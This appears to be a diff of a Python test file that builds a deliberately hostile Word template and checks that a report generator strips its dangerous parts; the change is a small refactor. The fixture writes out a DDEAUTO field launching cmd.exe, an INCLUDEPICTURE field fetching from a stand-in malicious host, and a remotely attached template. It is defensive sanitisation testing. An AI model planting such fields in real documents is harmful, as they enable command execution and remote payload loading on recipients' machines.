@@ -8,6 +8,7 @@ an lxml traceback.
 
 from __future__ import annotations
 
+import io
 import shutil
 import zipfile
 from pathlib import Path
@@ -60,13 +61,10 @@ def hostile_template(path: Path) -> Path:
     paragraph.append(parse_xml(f'<w:r {NS}><w:pict><v:shape><v:imagedata r:id="{image}"/></v:shape></w:pict></w:r>'))
     dde = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'
     paragraph.append(parse_xml(f"<w:fldSimple {NS} w:instr='{dde}'><w:r><w:t>résultat</w:t></w:r></w:fldSimple>"))
-    fields = (
-        _field('<w:fldChar w:fldCharType="begin"/>', f'<w:instrText> INCLUDEPICTURE "{EVIL}/x.png" \\d </w:instrText>',
-               '<w:fldChar w:fldCharType="separate"/>')  # fmt: skip
-        + _field("<w:t>image</w:t>", '<w:fldChar w:fldCharType="end"/>')
-        + _field('<w:fldChar w:fldCharType="begin"/>', "<w:instrText> PAGE </w:instrText>",
-                 '<w:fldChar w:fldCharType="separate"/>', "<w:t>1</w:t>", '<w:fldChar w:fldCharType="end"/>')  # fmt: skip
-    )
+    begin, separate, end = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "separate", "end"))
+    include = f'<w:instrText> INCLUDEPICTURE "{EVIL}/x.png" \\d </w:instrText>'
+    fields = _field(begin, include, separate) + _field("<w:t>image</w:t>", end)
+    fields += _field(begin, "<w:instrText> PAGE </w:instrText>", separate, "<w:t>1</w:t>", end)
     for run in parse_xml(f"<w:p {NS}>{fields}</w:p>"):
         paragraph.append(run)
     attached = document.part._settings_part.relate_to(f"{EVIL}/normal.dotm", ATTACHED, is_external=True)
@@ -78,7 +76,7 @@ def hostile_template(path: Path) -> Path:
 
 
 def xml_of(payload: bytes) -> str:
-    with zipfile.ZipFile(__import__("io").BytesIO(payload)) as archive:
+    with zipfile.ZipFile(io.BytesIO(payload)) as archive:
         return "\n".join(f"{n}\n{archive.read(n).decode('utf-8', 'replace')}" for n in archive.namelist())
 
 
@@ -101,7 +99,7 @@ def test_a_report_carries_none_of_it_and_keeps_the_header_text(tmp_path):
                  "v:imagedata", "<w:hyperlink"):  # fmt: skip
         assert gone not in xml, gone
     assert xml.count("<w:instrText") == 2  # the header's PAGE (a field of the kit's kind) and the footer's
-    document = docx.Document(__import__("io").BytesIO(payload))
+    document = docx.Document(io.BytesIO(payload))
     header = "\n".join(p.text for p in document.sections[0].header.paragraphs)
     assert "Fondation Exemple" in header and "le site" in header and "résultat" in header and "image" in header
 
@@ -116,7 +114,7 @@ def test_a_template_with_a_truncated_part_is_refused(tmp_path):
         for name in source.namelist():
             payload = source.read(name)
             target.writestr(name, payload[: len(payload) // 2] if name == "word/styles.xml" else payload)
-    with pytest.raises(InvalidArgument, match="damaged.docx: this is not a Word document .*XMLSyntaxError"):
+    with pytest.raises(InvalidArgument, match=r"damaged.docx: this is not a Word document .*XMLSyntaxError"):
         check_template(damaged)
 
 
